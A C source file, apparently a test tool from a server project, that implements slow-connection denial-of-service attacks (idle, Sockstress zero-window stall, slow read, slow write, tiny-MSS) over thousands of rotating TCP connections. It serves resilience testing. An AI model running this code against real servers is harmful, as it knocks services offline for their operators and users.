// SPDX-License-Identifier: MIT OR Apache-2.0
/* attack: clients that hold a server's memory for nothing, by the kernel's
 * TCP, so every segment of theirs is lawful. One that is thrown out comes back.
 *
 * usage: attack [OPTION]... ADDRESS_IPV4 PORT TARGET KIND
 *   KIND: idle       connects, asks nothing
 *         stall      asks for TARGET and never reads: a window of zero for ever
 *                    (Sockstress)
 *         slowread   reads a byte at a time, STEP_MS apart
 *         slowwrite  writes a request a byte at a time, STEP_MS apart
 *         tiny       asks for TARGET again and again with an MSS of 88
 *   -n N        connections (1000)
 *   -f IP       first source address; -a A: so many that follow (1)
 *   -s SECONDS  (5)
 * Output: opened= lost= (reset, or ended before its time) bytes= pps= (segments
 * that were sent, a second)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <linux/tcp.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "tests/lib/tool.h"

#define STEP_MS 100

enum kind { IDLE, STALL, SLOWREAD, SLOWWRITE, TINY };
static const char *const kinds[] = {
	"idle", "stall", "slowread", "slowwrite", "tiny", NULL,
};

struct conn {
	int fd; /* -1: to be opened */
	bool connected;
	uint32_t written;
};

#define CONNS_MAX 65536
static struct conn list[CONNS_MAX];

static struct {
	struct sockaddr_in peer, source;
	uint32_t conns, sources, seconds;
	enum kind kind;
	char request[512];
	uint32_t request_len;
	int epfd;
	uint64_t opened, lost, bytes, sent;
} g = { .conns = 1000, .sources = 1, .seconds = 5 };

/* Count its segments, and close it. */
static void end_conn(struct conn *c)
{
	struct tcp_info info = { 0 };
	socklen_t len = sizeof(info);

	if (getsockopt(c->fd, IPPROTO_TCP, TCP_INFO, &info, &len))
		die_errno("TCP_INFO");
	g.sent += info.tcpi_segs_out;
	close(c->fd);
	c->fd = -1;
}

static void lose(struct conn *c)
{
	end_conn(c);
	g.lost++;
}

static void set_int(int fd, int level, int name, int value)
{
	if (setsockopt(fd, level, name, &value, sizeof(value)))
		die_errno("setsockopt");
}

static void open_conn(struct conn *c)
{
	struct epoll_event ev = { .events = EPOLLOUT, .data.ptr = c };
	struct sockaddr_in from = g.source;

	*c = (struct conn){
		.fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0),
	};
	if (c->fd == -1)
		die_errno("socket");
	if (g.kind != TINY)
		set_int(c->fd, SOL_SOCKET, SO_RCVBUF, 1);
	else
		set_int(c->fd, IPPROTO_TCP, TCP_MAXSEG, 88);
	if (from.sin_family) {
		from.sin_addr.s_addr = htonl(ntohl(from.sin_addr.s_addr) +
					     (uint32_t)(g.opened % g.sources));
		set_int(c->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1);
		if (bind(c->fd, (struct sockaddr *)&from, sizeof(from)))
			die_errno("bind");
	}
	g.opened++;
	if (connect(c->fd, (struct sockaddr *)&g.peer, sizeof(g.peer)) &&
	    errno != EINPROGRESS)
		lose(c);
	else if (epoll_ctl(g.epfd, EPOLL_CTL_ADD, c->fd, &ev))
		die_errno("epoll_ctl");
}

/* Return: whether the connection is still there. */
static bool write_some(struct conn *c, uint32_t len)
{
	ssize_t n;

	if (c->written >= g.request_len) {
		if (g.kind != TINY)
			return true;
		c->written = 0;
	}
	if (len > g.request_len - c->written)
		len = g.request_len - c->written;
	n = send(c->fd, g.request + c->written, len, MSG_NOSIGNAL);
	if (n == -1 && errno != EAGAIN) {
		lose(c);
		return false;
	}
	c->written += n > 0 ? (uint32_t)n : 0;
	return true;
}

static void read_some(struct conn *c, size_t len)
{
	char buf[65536];
	ssize_t n = recv(c->fd, buf, len < sizeof(buf) ? len : sizeof(buf), 0);

	if (n == 0 || (n == -1 && errno != EAGAIN))
		lose(c);
	else if (n > 0)
		g.bytes += (uint64_t)n;
}

static void connected(struct conn *c)
{
	struct epoll_event ev = { .events = EPOLLRDHUP, .data.ptr = c };

	c->connected = true;
	if (g.kind == TINY)
		ev.events = EPOLLIN;
	if (epoll_ctl(g.epfd, EPOLL_CTL_MOD, c->fd, &ev))
		die_errno("epoll_ctl");
	if (g.kind != IDLE && g.kind != SLOWWRITE)
		write_some(c, g.request_len);
}

static void handle(struct conn *c, uint32_t events)
{
	if (c->fd == -1)
		return;
	if (events & (EPOLLERR | EPOLLHUP | EPOLLRDHUP))
		lose(c);
	else if (!c->connected)
		connected(c);
	else if (g.kind == TINY && write_some(c, g.request_len))
		read_some(c, SIZE_MAX);
}

/* What the slow ones do; those that were thrown out come back. */
static void step(void)
{
	for (uint32_t i = 0; i < g.conns; i++) {
		struct conn *c = &list[i];

		if (c->fd == -1)
			open_conn(c);
		else if (c->connected && g.kind == SLOWWRITE)
			write_some(c, 1);
		else if (c->connected && g.kind == SLOWREAD)
			read_some(c, 1);
	}
}

static struct sockaddr_in address(const char *text, uint32_t port)
{
	struct sockaddr_in sin = { .sin_family = AF_INET,
				   .sin_port = htons((uint16_t)port) };

	if (inet_pton(AF_INET, text, &sin.sin_addr) != 1) {
		errno = EINVAL;
		die_errno(text);
	}
	return sin;
}

static void set_up(char **arg)
{
	struct rlimit rl = { g.conns + 64, g.conns + 64 };

	g.peer = address(arg[0], number(arg[1], UINT16_MAX));
	g.request_len = (uint32_t)snprintf(
		g.request, sizeof(g.request),
		"GET %s HTTP/1.1\r\nHost: a\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaa"
		"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n\r\n",
		arg[2]);
	while (kinds[g.kind] && strcmp(kinds[g.kind], arg[3]))
		g.kind++;
	errno = EINVAL;
	if (!kinds[g.kind])
		die_errno(arg[3]);
	if (setrlimit(RLIMIT_NOFILE, &rl))
		die_errno("too many for the limit of open files");
	g.epfd = epoll_create1(EPOLL_CLOEXEC);
	if (g.epfd == -1)
		die_errno("start");
	for (uint32_t i = 0; i < g.conns; i++)
		list[i].fd = -1;
}

int main(int argc, char **argv)
{
	uint64_t begin, end, next = 0;
	int opt;

	while ((opt = getopt(argc, argv, "n:f:a:s:")) != -1) {
		switch (opt) {
		case 'n':
			g.conns = number(optarg, CONNS_MAX);
			break;
		case 'f':
			g.source = address(optarg, 0);
			break;
		case 'a':
			g.sources = number(optarg, 1000000);
			break;
		case 's':
			g.seconds = number(optarg, 1000000);
			break;
		default:
			argc = 0;
			break;
		}
	}
	if (argc - optind != 4) {
		fprintf(stderr,
			"usage: attack [-n N] [-f IP] [-a A] [-s SECONDS] "
			"ADDRESS PORT TARGET "
			"idle|stall|slowread|slowwrite|tiny\n");
		return 2;
	}
	set_up(argv + optind);
	begin = now_ns() / 1000000;
	end = begin + g.seconds * 1000ULL;
	while (now_ns() / 1000000 < end) {
		struct epoll_event ev[256];
		int n = epoll_wait(g.epfd, ev, 256, STEP_MS / 4);

		for (int i = 0; i < n; i++)
			handle(ev[i].data.ptr, ev[i].events);
		if (now_ns() / 1000000 >= next) {
			next = now_ns() / 1000000 + STEP_MS;
			step();
		}
	}
	end = now_ns() / 1000000;
	for (uint32_t i = 0; i < g.conns; i++) {
		if (list[i].fd != -1)
			end_conn(&list[i]);
	}
	printf("opened=%llu lost=%llu bytes=%llu pps=%llu\n",
	       (unsigned long long)g.opened, (unsigned long long)g.lost,
	       (unsigned long long)g.bytes,
	       (unsigned long long)(g.sent * 1000 / (end - begin)));
	return 0;
}
